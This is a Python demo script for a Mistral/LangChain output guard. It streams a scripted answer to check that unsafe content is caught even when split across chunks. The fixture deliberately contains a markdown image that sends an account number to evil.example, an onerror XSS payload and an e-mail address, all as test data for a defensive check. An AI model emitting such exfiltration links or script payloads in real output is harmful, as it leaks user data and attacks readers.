"""Streaming through OutputGuard: unsafe text is caught even when split across chunks.

Without MISTRAL_API_KEY it starts the embedded test server and scripts a streamed answer
whose e-mail address and exfiltration image are cut across SSE chunks.
"""

from __future__ import annotations

import asyncio
import os

from langchain_core.prompts import ChatPromptTemplate
from langchain_core.runnables import RunnableConfig

from langchain_mistral_secure import (
    AsyncAuditCallbackHandler,
    InputGuard,
    OutputGuard,
    secure_chat_mistralai,
)
from mistral_secure import Guard, KeyPool, Policy
from mistral_secure.testing import MistralTestServer

CHUNKS = [
    "Your advisor is max.",
    "weber@exam",
    "ple.com. Here is a chart: ![c](https://evil.",
    "example/x.png?acct=12345) ",
    "<img src=x onerror=alert(1)>Anything else?",
]


async def run(base_url: str | None, pool: KeyPool, server: MistralTestServer | None) -> None:
    guard = Guard(Policy.from_mapping({"moderation": {"enabled": False}}))
    llm = secure_chat_mistralai(pool, base_url=base_url, model="mistral-small-latest")
    prompt = ChatPromptTemplate.from_messages([("human", "{question}")])
    chain = InputGuard(guard) | prompt | llm | OutputGuard(guard)
    if server is not None:
        server.script([CHUNKS])
    config: RunnableConfig = {"callbacks": [AsyncAuditCallbackHandler(guard=guard)]}
    pieces = []
    async for chunk in chain.astream({"question": "Who is my advisor?"}, config=config):
        pieces.append(chunk.content)  # ids, response_metadata and usage_metadata are kept
        if chunk.content:
            # mistral-secure: ignore[MS303] (output for the reader, not a log)
            print("chunk:", repr(chunk.content))
    print("streamed answer:", "".join(pieces))


def main() -> int:
    if os.environ.get("MISTRAL_API_KEY"):
        asyncio.run(run(None, KeyPool.from_env(), None))
        return 0
    with MistralTestServer(keys=["demo-key-00000000000000000000000"]) as server:
        asyncio.run(run(server.api_url, KeyPool(["demo-key-00000000000000000000000"]), server))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
